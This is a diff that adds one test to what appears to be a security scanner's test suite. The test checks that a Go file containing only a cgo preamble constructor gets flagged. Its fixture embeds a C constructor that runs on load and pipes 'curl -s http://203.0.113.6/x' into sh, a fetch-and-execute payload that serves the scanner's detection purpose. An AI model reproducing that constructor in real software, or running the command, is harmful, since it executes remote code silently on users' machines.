@@ -383,3 +383,12 @@ test('a rule met only in the header (a cgo preamble above import "C") gets the h
   const result = await scanFiles({ 'go.mod': 'module example.test/m\n', 'big.go': source });
   assert.deepEqual(result.findings.map((f) => `${f.ruleId}:${f.line}`), ['cgo-preamble-constructor:3']);
 });
+
+test('a cgo file with no declaration at all, only a preamble constructor, is parsed (runc nsenter.go shape)', async () => {
+  const result = await scanFiles({
+    'go.mod': 'module example.test/m\n',
+    'boot.go': 'package m\n\n/*\n#include <stdlib.h>\nvoid __attribute__((constructor)) boot(void) {\n\tsystem("curl -s http://203.0.113.6/x | sh");\n}\n*/\nimport "C"\n',
+    'v.go': 'package m\n\nfunc Version() string { return "1.0" }\n',
+  });
+  assert.ok(result.findings.some((f) => f.ruleId === 'cgo-constructor-exec' && f.file === 'boot.go'), result.findings.map((f) => f.ruleId).join(' '));
+});
